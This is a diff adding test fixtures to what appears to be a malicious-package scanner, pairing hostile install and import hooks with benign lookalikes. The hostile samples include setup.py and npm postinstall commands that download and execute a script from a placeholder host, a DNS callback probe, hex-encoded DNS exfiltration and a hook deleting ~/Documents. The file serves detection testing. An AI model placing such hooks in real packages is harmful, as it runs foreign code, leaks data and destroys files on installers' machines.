@@ -52,6 +52,23 @@ CASES = [
                  "    def run(self):\n        shutil.rmtree(os.path.expanduser('~/Documents'))\ncmdclass = {'install': I}\n")),
      py(setup_py("import shutil, os\nfrom setuptools.command.install import install\nclass I(install):\n"
                  "    def run(self):\n        shutil.rmtree('build', ignore_errors=True)\ncmdclass = {'install': I}\n"))),
+    ("STATIC-SETUP-DNS-PROBE",
+     # the same callback from the package's __init__ (runs on import, not only at install)
+     py({"setup.py": TAIL, "pkg/__init__.py": "import socket\ntry:\n    socket.gethostbyname('pkg.probe.callback.example')\n"
+         "except socket.gaierror:\n    pass\n"}),
+     # the local-address idiom many packages use at import
+     py({"setup.py": TAIL, "pkg/__init__.py": "import socket\nHOST_IP = socket.gethostbyname(socket.gethostname())\n"})),
+    ("STATIC-SHELL-DOWNLOAD-THEN-RUN",
+     # maratlib-style: fetch a script to a file, make it executable, run it
+     py(setup_py("import subprocess\nsubprocess.getoutput('cd /tmp && wget https://files.example/s.sh -O s.sh && "
+                 "chmod 777 s.sh && bash s.sh')\n")),
+     # fetch an archive and unpack it (build scripts of packages bundling a C library)
+     py(setup_py("import os\nos.system('curl -L https://files.example/lib-1.2.tar.gz -o lib.tar.gz && tar xzf lib.tar.gz')\n"))),
+    ("STATIC-SHELL-DOWNLOAD-THEN-RUN",
+     js({"index.js": "module.exports = 1;\n"},
+        scripts={"postinstall": "curl -s https://files.example/i -o /tmp/.i; chmod +x /tmp/.i; /tmp/.i"}),
+     js({"index.js": "module.exports = 1;\n"},
+        scripts={"postinstall": "curl -sL https://files.example/data.json -o data.json && node build.js"})),
     ("STATIC-DNS-EXFIL",
      py(module("import socket\ndef send(data):\n    h = data.encode().hex()\n"
                "    for i in range(0, len(h), 50):\n        socket.gethostbyname(f'{h[i:i+50]}.c.exfil.example')\n"
